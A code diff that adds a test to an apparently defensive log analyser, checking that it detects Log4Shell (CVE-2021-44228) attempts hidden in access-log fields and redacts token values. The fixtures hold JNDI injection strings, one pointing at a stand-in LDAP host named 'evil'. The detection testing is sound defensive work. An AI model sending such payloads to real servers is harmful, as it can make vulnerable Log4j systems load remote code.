@@ -401,6 +401,19 @@ def test_attacks_are_found_in_any_field(tmp_path: Path) -> None:
     assert "JNDI" not in report(log)
 
 
+def test_attacks_in_values_that_are_hidden_are_found(tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    hidden = (
+        line(b"/?token=${jndi:ldap://evil/S3CR3T}"),
+        line(referer=b"http://u:${jndi:S3CR3T}@h/"),
+        line(b"/?token=S3CR3T"),
+    )
+    log.write_bytes(b"".join(hidden))
+    page = Page(report(log, log_format="COMBINED"))
+    assert "2 requests." in page.text.partition("CVE-2021-44228")[2] and "/?token=***" in page.text
+    assert "S3CR3T" not in page.text
+
+
 def test_labels_of_years_have_room() -> None:
     steps = charts.steps_of([START, START + timedelta(days=4000)])
     assert steps is not None
